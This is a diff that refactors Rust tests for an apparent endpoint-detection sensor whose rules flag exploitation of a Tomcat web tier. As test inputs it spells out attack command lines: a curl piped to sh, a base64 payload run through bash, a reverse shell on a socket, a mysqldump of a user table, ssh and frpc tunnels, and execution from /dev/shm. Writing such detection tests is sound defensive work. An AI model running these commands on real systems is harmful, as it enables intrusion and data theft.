@@ -244,6 +244,16 @@ fn has(alerts: &[Alert], rule: &str) -> bool {
     alerts.iter().any(|a| a.rule_id == rule)
 }
 
+/// The alerts of one spawn in a fresh world.
+fn fresh_spawn(parent: u32, exe: &str, argv: &[&str]) -> Vec<Alert> {
+    World::new().spawn(parent, exe, argv).1
+}
+
+/// As `fresh_spawn`, with the child's descriptors 0-2 of `stdio`'s kind.
+fn fresh_spawn_with(parent: u32, exe: &str, argv: &[&str], stdio: FdKind) -> Vec<Alert> {
+    World::new().spawn_with(parent, exe, argv, stdio).1
+}
+
 // ---- Lineage ---------------------------------------------------------------------------
 
 #[test]
@@ -290,8 +300,7 @@ fn identities_label_the_web_tier_and_its_descendants() {
 
 #[test]
 fn alert_carries_process_ancestry_lineage_and_evidence() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
+    let alerts = fresh_spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
     let a = alerts.iter().find(|a| a.rule_id == "EPMM-B2").expect("B2");
     assert_eq!(a.severity, sensor_proto::v1::Severity::High as i32);
     assert_eq!(a.techniques, ["T1190", "T1059.004"]);
@@ -336,15 +345,13 @@ fn b1_helper_subshell_payload() {
     let (_, alerts) = w.spawn(sub, "/usr/bin/id", &["id"]);
     assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
     // The helper's own baseline call stays quiet.
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
+    let alerts = fresh_spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
     assert!(alerts.is_empty(), "{:?}", ids(&alerts));
 }
 
 #[test]
 fn b2_tomcat_shell() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
+    let alerts = fresh_spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
     assert!(has(&alerts, "EPMM-B2"));
     // jspawnhelper, the JVM's plumbing, is not a child to alert on; nor is an admin's sh.
     let mut w = World::new();
@@ -360,11 +367,9 @@ fn b2_tomcat_shell() {
 
 #[test]
 fn b3_tomcat_runs_curl_directly() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x.oast.fun"]);
+    let alerts = fresh_spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x.oast.fun"]);
     assert!(has(&alerts, "EPMM-B3"));
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         ADMIN_SHELL,
         "/usr/bin/curl",
         &["curl", "https://updates.example"],
@@ -403,22 +408,19 @@ fn b5_download_chmod_execute() {
 
 #[test]
 fn b6_piped_and_encoded_one_liners() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         TOMCAT,
         "/bin/bash",
         &["bash", "-c", "echo aWQK | base64 -d | bash"],
     );
     assert!(has(&alerts, "EPMM-B6"));
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         TOMCAT,
         "/bin/bash",
         &["bash", "-c", "curl -s http://x/s.sh|sh"],
     );
     assert!(has(&alerts, "EPMM-B6"));
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         ADMIN_SHELL,
         "/bin/bash",
         &["bash", "-c", "echo aWQK | base64 -d | bash"],
@@ -428,14 +430,12 @@ fn b6_piped_and_encoded_one_liners() {
 
 #[test]
 fn b7_reverse_shell_on_a_socket() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn_with(ADMIN_SHELL, "/bin/bash", &["bash", "-i"], FdKind::Socket);
+    let alerts = fresh_spawn_with(ADMIN_SHELL, "/bin/bash", &["bash", "-i"], FdKind::Socket);
     assert!(
         has(&alerts, "EPMM-B7"),
         "socket stdio is a reverse shell wherever it comes from"
     );
-    let mut w = World::new();
-    let (_, alerts) = w.spawn_with(TOMCAT, "/bin/sh", &["/bin/sh"], FdKind::Pipe);
+    let alerts = fresh_spawn_with(TOMCAT, "/bin/sh", &["/bin/sh"], FdKind::Pipe);
     assert!(!has(&alerts, "EPMM-B7"), "the JVM's children get pipes");
 }
 
@@ -543,8 +543,7 @@ fn b10_data_staged_as_css() {
 
 #[test]
 fn b11_database_theft() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         TOMCAT,
         "/usr/bin/mysqldump",
         &["mysqldump", "--databases", "mifs", "--tables", "mi_user"],
@@ -576,8 +575,7 @@ fn b12_privileged_shell() {
     );
     let (_, alerts) = w.spawn(env, "/bin/sh", &["/bin/sh", "-p", "-c", "id"]);
     assert!(has(&alerts, "EPMM-B12"));
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "id"]);
+    let alerts = fresh_spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "id"]);
     assert!(!has(&alerts, "EPMM-B12"));
 }
 
@@ -651,8 +649,7 @@ fn b16_memfd_execution() {
 
 #[test]
 fn b17_exec_from_tmp() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/dev/shm/.x/kworker", &["kworker"]);
+    let alerts = fresh_spawn(ADMIN_SHELL, "/dev/shm/.x/kworker", &["kworker"]);
     assert!(has(&alerts, "EPMM-B17"));
     let mut w = World::new();
     let (_, alerts) = w.spawn(
@@ -714,11 +711,9 @@ fn b20_recon_burst() {
 
 #[test]
 fn b21_tunnels() {
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/frpc", &["frpc", "-c", "frpc.ini"]);
+    let alerts = fresh_spawn(ADMIN_SHELL, "/tmp/frpc", &["frpc", "-c", "frpc.ini"]);
     assert!(has(&alerts, "EPMM-B21"));
-    let mut w = World::new();
-    let (_, alerts) = w.spawn(
+    let alerts = fresh_spawn(
         ADMIN_SHELL,
         "/usr/bin/ssh",
         &["ssh", "-R", "9000:localhost:22", "x"],
